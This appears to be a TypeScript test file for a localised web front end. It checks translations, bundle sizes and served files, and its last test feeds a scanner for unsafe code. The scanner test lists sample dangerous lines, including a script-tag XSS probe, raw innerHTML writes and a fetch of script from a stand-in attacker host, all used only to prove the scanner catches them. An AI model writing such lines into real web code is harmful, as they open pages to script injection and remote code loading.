import assert from 'node:assert/strict'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import type { Reason, Recipient } from '../../kb/types.ts'
import { checkWeb, faultsOf } from '../../scripts/check-web.ts'
import { cardOf } from '../../web/core/card.ts'
import { root } from '../helpers/root.ts'
import { REPORT } from '../helpers/stub-server.ts'

const read = (path: string) => readFileSync(join(root, path), 'utf8')
const LOCALES = readdirSync(join(root, 'web/locales'))
const words = (file: string) => JSON.parse(read(`web/locales/${file}`)) as Record<string, string>

test('every language says everything that English says, with the same places to fill', () => {
  const english = words('en.json')
  const places = (text = '') => [...text.matchAll(/\{\w+\}/g)].map(([place]) => place).sort()
  assert.equal(LOCALES.length, 14)
  for (const file of LOCALES) {
    const local = words(file)
    assert.deepEqual(Object.keys(local), Object.keys(english), file)
    for (const [key, text] of Object.entries(english)) {
      assert.deepEqual(places(local[key]), places(text), `${file}: ${key}`)
    }
  }
})

test('no language has English left in it', () => {
  const english = words('en.json')
  for (const file of LOCALES.filter((name) => name !== 'en.json')) {
    const local = words(file)
    const same = Object.keys(english).filter((key) => local[key] === english[key])
    assert.ok(same.length <= 6, `${file}: ${same.join(', ')}`)
  }
})

test('every language says for every reason what happened, who acts, for how long, what next', () => {
  const reasons = JSON.parse(read('kb/data/reasons.json')) as { id: Reason }[]
  const english = words('en.json')
  const [recipient] = REPORT.recipients
  const cards = reasons.map(({ id }) =>
    cardOf({ ...REPORT, recipients: [{ ...recipient, reason: id } as Recipient] }, null),
  )
  assert.ok(cards.length >= 34)
  for (const file of LOCALES) {
    const local = words(file)
    for (const card of cards) {
      assert.ok(card)
      const said = [card.verdict, card.reason, card.resend, ...card.actors]
      for (const word of [...said, 'permanent', 'temporary', 'given-up', 'unsure']) {
        assert.ok(local[word], `${file}: ${card.reason}: ${word}`)
        // "Permanent" is a word of several languages
        const own = file === 'en.json' || word === 'permanent' || local[word] !== english[word]
        assert.ok(own, `${file}: ${word} is English`)
      }
    }
  }
})

test('no text is there for nobody', () => {
  const sources = readdirSync(join(root, 'web'), { recursive: true, encoding: 'utf8' })
    .filter((file) => /(core|ui)[\\/].*\.ts$/.test(file))
    .map((file) => read(join('web', file)))
    .join('\n')
  const data = read('kb/data/reasons.json') + read('kb/schema.ts')
  const idle = Object.keys(words('en.json')).filter(
    (key) =>
      !new RegExp(`words\\.${key}\\b|'${key}'|\\b${key},? ?[},]`).test(sources) &&
      !data.includes(key),
  )
  assert.deepEqual(idle, [])
})

type Size = { readonly name: string; readonly gzip: number; readonly budget?: number }

test('nothing weighs more than it may', () => {
  const sizes = JSON.parse(read('dist/sizes.json')) as Size[]
  assert.ok(sizes.filter(({ budget }) => budget !== undefined).length >= 18)
  for (const { name, gzip, budget } of sizes) {
    if (budget !== undefined) assert.ok(gzip <= budget, `${name}: ${gzip} of ${budget}`)
  }
})

test('only what a browser loads is served', () => {
  const served = readdirSync(join(root, 'dist/public'), { recursive: true, encoding: 'utf8' })
  const odd = served.filter((file) => !/^assets$|^assets[\\/][\w-]+-[A-Z0-9]{8}\.js$/.test(file))
  const entries = ['page', 'widget', 'chat', 'frame', 'react'].map((name) => `${name}.js`)
  assert.deepEqual(odd.sort(), [...entries, 'icon.svg', 'index.html', 'page.css'].sort())
})

test('the sources hold no way from a string to HTML, style or script', () => {
  assert.deepEqual(checkWeb(join(root, 'web')), [])
})

test('the search for forbidden words finds them', () => {
  const bad = [
    'a.innerHTML = b',
    'el.insertAdjacentHTML("beforeend", x)',
    'node.style.color = "red"',
    'h("div", { "style": x })',
    '<a style="x">',
    '<script>alert(1)</script>',
    'parent.postMessage(x, "*")',
    'fetch("https://cdn.evil.example/x.js")',
    'new Function("x")',
  ]
  for (const line of bad) assert.equal(faultsOf(line).length > 0, true, line)
  assert.deepEqual(faultsOf('node.textContent = text'), [])
})
